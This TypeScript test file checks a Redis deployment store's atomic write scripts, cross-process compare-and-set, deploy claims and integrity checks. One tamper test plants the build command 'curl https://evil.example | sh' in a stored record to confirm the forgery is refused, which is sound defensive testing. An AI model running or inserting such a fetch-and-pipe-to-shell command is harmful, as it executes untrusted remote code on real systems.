import test from 'ava';
import { randomBytes } from 'node:crypto';
import { Redis } from 'ioredis';
import { startTestRedis, type TestRedis } from '../helpers/redis.js';
import { systemClock } from '../../server/clock.js';
import { createKeyring } from '../../server/crypto/keyring.js';
import { RecordTamperedError } from '../../server/deployments/integrity.js';
import { createDeploymentStore, newDeploymentId, type DeploymentStore } from '../../server/deployments/store.js';
import type { DeploymentRecord } from '../../server/deployments/types.js';

// The store's write scripts (server/deployments/transition.ts): one round trip per record change,
// and a compare-and-set on the exact JSON the change was planned on, so a copy this process
// remembers never overwrites what another process (or a Redis writer) stored meanwhile.

let redis: TestRedis;
const keyring = createKeyring(randomBytes(32));
const clients: Redis[] = [];

test.before(async () => { redis = await startTestRedis(); });
test.after.always(async () => { for (const c of clients) c.disconnect(); await redis?.stop(); });

/** A store on its own connection, as another web or worker process would have; `sent` lists the commands it sends. */
function processStore(): { store: DeploymentStore; sent: string[] } {
  const client = new Redis(redis.url, { maxRetriesPerRequest: null });
  clients.push(client);
  const sent: string[] = [];
  const send = client.sendCommand.bind(client);
  client.sendCommand = (command, stream) => { sent.push(command.name); return send(command, stream); };
  return { store: createDeploymentStore({ redis: client, prefix: redis.prefix, clock: systemClock, keyring }), sent };
}

let users = 0;
function blank(): DeploymentRecord {
  const now = new Date().toISOString();
  return {
    id: newDeploymentId(), userId: 1000 + ++users, kind: 'deploy', status: 'queued',
    request: { githubRepo: 'octo/app', serviceName: 'app', branch: 'main', ownerId: 'tea-owner', region: 'oregon', plan: 'free', envVarKeys: [], buildCommand: null, startCommand: null },
    timeline: [{ status: 'queued', at: now, source: 'orchestrator' }],
    stack: null, commitSha: null, serviceId: null, deployId: null, deployRequestedAt: null, rollbackToDeployId: null,
    dashboardUrl: null, serviceUrl: null, failure: null, sessionRef: 'ref', keyFingerprint: 'fp', requestMac: '', watchChecks: 0,
    createdAt: now, updatedAt: now, finishedAt: null,
  };
}

/** Two processes' stores and a record the first created and moved to verifying. */
async function twoProcesses() {
  const a = processStore();
  const b = processStore();
  const rec = blank();
  await a.store.create(rec);
  await a.store.transition(rec.id, 'verifying', 'orchestrator');
  return { a, b, rec };
}

test.serial('a transition that names the service is one round trip: record, service indexes and the live update', async (t) => {
  const { store, sent } = processStore();
  const rec = blank();
  await store.create(rec);
  await store.transition(rec.id, 'verifying', 'orchestrator'); // loads the script into Redis' cache
  const subscriber = new Redis(redis.url);
  clients.push(subscriber);
  const events: string[] = [];
  subscriber.on('message', (_channel: string, message: string) => { events.push(message); });
  await subscriber.subscribe(store.keys.channel(rec.userId));

  sent.length = 0;
  const next = await store.transition(rec.id, 'created', 'render', { serviceId: 'srv-one' });
  t.deepEqual(sent, ['evalsha'], 'one command: the script');
  t.is(next?.status, 'created');
  t.deepEqual(await store.idsOfService(rec.userId, 'srv-one'), [rec.id]);
  t.deepEqual(await store.servicesOfUser(rec.userId), { 'srv-one': 'tea-owner' });
  t.deepEqual(next?.timeline.map((e) => e.status), ['queued', 'verifying', 'created']);
  for (let i = 0; i < 100 && events.length === 0; i++) await new Promise((r) => setTimeout(r, 10));
  t.is(JSON.parse(events[0] ?? '{}').status, 'created');

  sent.length = 0;
  await store.transition(rec.id, 'live', 'render');
  t.deepEqual(sent, ['evalsha'], 'ending it (leaving the unfinished set) is one command too');
  t.deepEqual(await store.activeIds(rec.userId), []);
});

// A deploy going live first has the user's older deployments of its service deactivated (workers/tasks/
// finishDeploy.ts). The write itself looks for them: a new service's first deploy, the usual case, has
// none and goes live in one command; with others, they are handed over before the record changes.
test.serial('a live write with othersOfService: alone it is one command; with others they are handed over first, then it is written', async (t) => {
  const { store, sent } = processStore();
  const first = blank();
  await store.create(first);
  await store.transition(first.id, 'created', 'render', { serviceId: 'srv-solo' });
  const seen: string[][] = [];
  sent.length = 0;
  const live = await store.transition(first.id, 'live', 'render', {}, undefined, [], async (ids) => { seen.push(ids); });
  t.deepEqual(sent, ['evalsha'], 'no read of the service index of its own');
  t.deepEqual(seen, [], 'nobody else to deactivate');
  t.is(live?.status, 'live');

  const second = { ...blank(), userId: first.userId, serviceId: 'srv-solo' };
  await store.create(second);
  await store.transition(second.id, 'update_in_progress', 'render');
  sent.length = 0;
  const done = await store.transition(second.id, 'live', 'render', {}, undefined, [], async (ids) => {
    seen.push(ids);
    t.is((await store.get(second.id))?.status, 'update_in_progress', 'handed over before the record changes');
    await store.markReplaced(first.id, { deploymentId: second.id, deployId: null, at: new Date().toISOString() });
  });
  t.deepEqual(seen, [[first.id]]);
  t.is(done?.status, 'live');
  t.is((await store.get(first.id))?.status, 'deactivated');
  t.deepEqual(await store.idsOfService(first.userId, 'srv-solo'), [first.id, second.id]);
});

test.serial('a change over a record another process wrote meanwhile is planned again on a fresh read', async (t) => {
  const { a, b, rec } = await twoProcesses();
  await b.store.transition(rec.id, 'detecting', 'orchestrator', { commitSha: 'abc' });
  const next = await a.store.transition(rec.id, 'creating_service', 'orchestrator');
  t.deepEqual(next?.timeline.map((e) => e.status), ['queued', 'verifying', 'detecting', 'creating_service'], 'nothing b wrote is lost');
  t.is(next?.commitSha, 'abc');
  t.deepEqual((await b.store.get(rec.id))?.timeline.map((e) => e.status), ['queued', 'verifying', 'detecting', 'creating_service']);
});

test.serial('a late write never resurrects a record another process ended', async (t) => {
  const { a, b, rec } = await twoProcesses();
  await b.store.transition(rec.id, 'canceled', 'orchestrator');
  t.is(await a.store.transition(rec.id, 'detecting', 'orchestrator'), null);
  t.is((await a.store.get(rec.id))?.status, 'canceled');
});

test.serial('a record altered in Redis under a remembered copy is refused, not overwritten with a fresh MAC', async (t) => {
  const { store } = processStore();
  const rec = blank();
  await store.create(rec);
  await store.transition(rec.id, 'creating_service', 'orchestrator');
  const key = `${redis.prefix}:deployment:${rec.id}`;
  const stored = JSON.parse((await redis.client.hget(key, 'json'))!) as DeploymentRecord;
  stored.request.buildCommand = 'curl https://evil.example | sh';
  const forged = JSON.stringify(stored);
  await redis.client.hset(key, 'json', forged);
  await t.throwsAsync(store.transition(rec.id, 'created', 'render', { serviceId: 'srv-x' }), { instanceOf: RecordTamperedError });
  t.is(await redis.client.hget(key, 'json'), forged, 'left as found');
  t.is((await store.inspect(rec.id)).state, 'tampered');
});

test.serial('a remembered copy older than the stored record does not stop a later change (live → deactivated)', async (t) => {
  const a = processStore();
  const b = processStore();
  const rec = blank();
  await a.store.create(rec);
  await a.store.transition(rec.id, 'update_in_progress', 'render', { serviceId: 'srv-two' });
  await b.store.transition(rec.id, 'live', 'render');
  const replaced = await a.store.markReplaced(rec.id, { deploymentId: null, deployId: 'dep-newer', at: new Date().toISOString() });
  t.is(replaced?.status, 'deactivated');
  t.is(await a.store.markServiceDeleted(rec.userId, 'srv-two'), 1);
  const seen = await b.store.get(rec.id);
  t.is(seen?.status, 'deactivated');
  t.truthy(seen?.serviceDeletedAt);
  t.deepEqual(await b.store.servicesOfUser(rec.userId), {});
});

// The status guard of a change made after the end (a note, the deleted-service mark) names the status of
// the copy the change was planned on. When another process moved the status on meanwhile, the stored
// JSON differs too: that is "changed" (re-read, plan again), not "refused". Before, the guard was
// checked first and the change was silently dropped whenever this process's remembered copy was older.
test.serial('a deleted service or a note after the end is recorded even when the remembered copy has an older status', async (t) => {
  const a = processStore();
  const b = processStore();
  const rec = blank();
  await a.store.create(rec);
  await a.store.transition(rec.id, 'update_in_progress', 'render', { serviceId: 'srv-three' }); // a remembers this
  await b.store.transition(rec.id, 'live', 'render');
  t.is(await a.store.markServiceDeleted(rec.userId, 'srv-three'), 1);
  t.truthy((await b.store.get(rec.id))?.serviceDeletedAt, 'the mark is stored');

  const other = blank();
  await a.store.create(other);
  await a.store.transition(other.id, 'creating_service', 'orchestrator'); // a remembers this
  await b.store.transition(other.id, 'canceled', 'orchestrator');
  await a.store.noteAfterEnd(other.id, { serviceId: 'srv-four', dashboardUrl: null, serviceUrl: null });
  const noted = await b.store.get(other.id);
  t.is(noted?.serviceId, 'srv-four', 'where the service ended up is noted');
  t.is(noted?.status, 'canceled');
});

test.serial('creation lists the record, marks it unfinished and refuses an id already taken', async (t) => {
  const { store, sent } = processStore();
  const rec = blank();
  await store.create(rec); // loads the script
  const second = { ...blank(), serviceId: 'srv-three' };
  sent.length = 0;
  await store.create(second);
  t.deepEqual(sent, ['evalsha'], 'record, user list, unfinished set, service index and live update in one command');
  t.deepEqual(await store.activeIds(second.userId), [second.id]);
  t.deepEqual((await store.listForUser(second.userId, { limit: 10 })).items.map((r) => r.id), [second.id]);
  t.deepEqual(await store.idsOfService(second.userId, 'srv-three'), [second.id]);
  // Another record under a taken id (the exact record again is this call's own write found there: its answer
  // lost and the script sent again, test/deployments/connectionDrop.test.ts).
  await t.throwsAsync(store.create({ ...blank(), id: rec.id }), { message: /already exists/ });
});

test.serial('a write naming a Render deploy claims it for the deployment, over a look\'s claim, and even when the record had ended', async (t) => {
  const { a, b, rec } = await twoProcesses();
  const reader = new Redis(redis.url);
  clients.push(reader);
  const claimOf = (deployId: string) => reader.get(a.store.keys.deployClaim(deployId));
  // Another deployment's look took the deploy first; the write of the deployment Render named it to wins.
  t.true(await b.store.claimRenderDeploy('dep-named', 'dpl-another'));
  t.truthy(await a.store.transition(rec.id, 'build_in_progress', 'render', { deployId: 'dep-named' }));
  t.is(await claimOf('dep-named'), rec.id);
  t.false(await b.store.claimRenderDeploy('dep-named', 'dpl-another'), 'no look takes it now');
  // Ended by another process (a cancel while the ask was out): the write is dropped, the claim is made.
  const ended = blank();
  await a.store.create(ended);
  await b.store.transition(ended.id, 'canceled', 'orchestrator');
  t.is(await a.store.transition(ended.id, 'build_in_progress', 'render', { deployId: 'dep-of-canceled' }), null);
  t.is((await b.store.get(ended.id))?.status, 'canceled');
  t.is(await claimOf('dep-of-canceled'), ended.id);
  // A write that names no new deploy claims nothing.
  await a.store.update(rec.id, { watchChecks: 2 });
  await a.store.update(rec.id, { deployId: null });
  t.is(await claimOf('dep-named'), rec.id);
});

test.serial('a claim Redis refuses is the write\'s error, never a rejection left unhandled while the write goes on', async (t) => {
  // The claim goes out while the write may still wait on other things (finish()'s older live records,
  // here made slow); refused meanwhile, it was left unhandled, which ends a Node process (found by a review).
  const { store } = processStore();
  const older = { ...blank(), status: 'render_queued' as const, serviceId: 'srv-claim' };
  const rec = { ...blank(), userId: older.userId, status: 'render_queued' as const, serviceId: 'srv-claim' };
  await store.create(older);
  await store.create(rec);
  const unhandled: unknown[] = [];
  const onUnhandled = (reason: unknown) => { unhandled.push(reason); };
  process.on('unhandledRejection', onUnhandled);
  t.teardown(() => { process.off('unhandledRejection', onUnhandled); });
  // Memory full under noeviction (as BullMQ requires): Redis refuses the SET, the write's read-only check still answers.
  await redis.client.config('SET', 'maxmemory', '1');
  t.teardown(async () => { await redis.client.config('SET', 'maxmemory', '0'); });
  const slowOthers = () => new Promise<void>((r) => setTimeout(r, 200));
  const error = await t.throwsAsync(store.transition(rec.id, 'live', 'render', { deployId: 'dep-refused' }, undefined, [], slowOthers));
  t.regex(error.message, /OOM/);
  await new Promise((r) => setTimeout(r, 50));
  t.deepEqual(unhandled, [], 'no rejection left unhandled');
});
